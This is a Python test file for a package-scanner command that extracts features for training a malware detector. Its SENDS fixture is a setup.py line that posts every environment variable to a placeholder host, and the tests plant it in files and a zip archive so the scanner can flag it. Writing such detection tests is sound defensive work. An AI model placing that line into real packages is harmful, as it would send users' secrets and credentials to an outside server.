"""``scan features`` prints what the training script reads."""

import hashlib
import json
import zipfile

from scanner.engine import command
from scanner.training import bundles

SENDS = "import os, requests\nrequests.post('https://x.invalid', data=dict(os.environ))\n"


def test_a_line_goes_straight_into_training(tmp_path, capsys):
    app = tmp_path / "app"
    app.mkdir()
    (app / "setup.py").write_text(SENDS)

    code = command.main(["features", str(app), "--json", "--label", "1", "--group", "mine"])

    assert code == 0
    line = json.loads(capsys.readouterr().out)
    assert line["features"]["s_env_all"] == 1
    assert [file["path"] for file in line["files"]] == ["setup.py"]
    kept = tmp_path / "mine.jsonl"
    kept.write_text(json.dumps(line) + "\n")
    (bundle,) = bundles.read([kept])
    assert (bundle.name, bundle.group, bundle.label) == ("app", "mine", 1)
    assert bundle.parts[0]["p_env_all+net_out"] == 1


def test_an_archive_is_known_by_its_digest(tmp_path, capsys):
    archive = tmp_path / "app.zip"
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("setup.py", SENDS)

    command.main(["features", str(archive), "--json"])

    line = json.loads(capsys.readouterr().out)
    assert line["sha256"] == hashlib.sha256(archive.read_bytes()).hexdigest()
    assert line["id"] == f"app.zip-{line['sha256'][:12]}"


def test_a_person_reads_it_as_text(tmp_path, capsys):
    (tmp_path / "a.py").write_text(SENDS)

    assert command.main(["features", str(tmp_path)]) == 0

    assert "1 files show some behaviour\na.py\n" in capsys.readouterr().out


def test_what_is_not_there_or_no_archive_is_said_so(tmp_path, capsys):
    broken = tmp_path / "x.zip"
    broken.write_bytes(b"nonsense")

    assert command.main(["features", str(tmp_path / "none"), "--json"]) == 4
    assert "There is no" in capsys.readouterr().err
    assert command.main(["features", str(broken), "--json"]) == 4
    assert "could not be read" in capsys.readouterr().err
